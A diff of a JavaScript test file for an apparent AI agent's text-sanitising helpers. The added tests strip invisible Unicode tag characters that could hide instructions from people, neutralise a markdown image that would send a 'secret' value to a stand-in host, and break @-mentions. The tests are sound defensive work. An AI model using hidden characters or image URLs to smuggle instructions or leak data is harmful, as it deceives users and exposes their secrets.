@@ -1,5 +1,5 @@
 import { speechOf } from './speech.js';
-import { fitting, plain, readable, withoutAddress, withoutCall } from './text.js';
+import { fitting, plain, readable, said, withoutAddress, withoutCall } from './text.js';
 
 it.each([
   ['A button', 'A button'],
@@ -17,6 +17,8 @@ it.each([
 
 it('keeps lines and letters, and nothing that cannot be seen', () => {
   expect(readable('a\r\n\tb\u0007\u202Ec 👋🏽')).toBe('a\n\tbc 👋🏽');
+  // A hidden alphabet, in which an agent would read what nobody sees.
+  expect(readable('fix it\u{e0072}\u{e006d}\u200b')).toBe('fix it');
 });
 
 it.each([
@@ -34,6 +36,18 @@ it.each([
   ['@a.b(c) x', '@a.b(c) x'],
 ])('is not told its own name: %s', (text, expected) => {
   expect(withoutAddress(text, 'berth')).toBe(expected);
+});
+
+it('calls nobody by an address, and shows no image that whoever reads it would fetch', () => {
+  expect(said('See https://linear.app/acme/profiles/ann and @ann.', 'Berth (dev)')).toBe(
+    'See https://linear.app/acme/\u2060profiles/ann and @\u2060ann.',
+  );
+  expect(said('![x](https://a.example/?q=secret) [y](https://linear.app/acme/issue/A-1)', 'berth')).toBe(
+    '!\u2060[x](https://a.example/?q=secret) [y](https://linear.app/acme/issue/A-1)',
+  );
+  expect(said('```rust\nvec![1]\n```\nand `#![allow(x)]`, @berth', 'berth')).toBe(
+    '```rust\nvec![1]\n```\nand `#![allow(x)]`, berth',
+  );
 });
 
 it('shortens what is too long, and says so', () => {
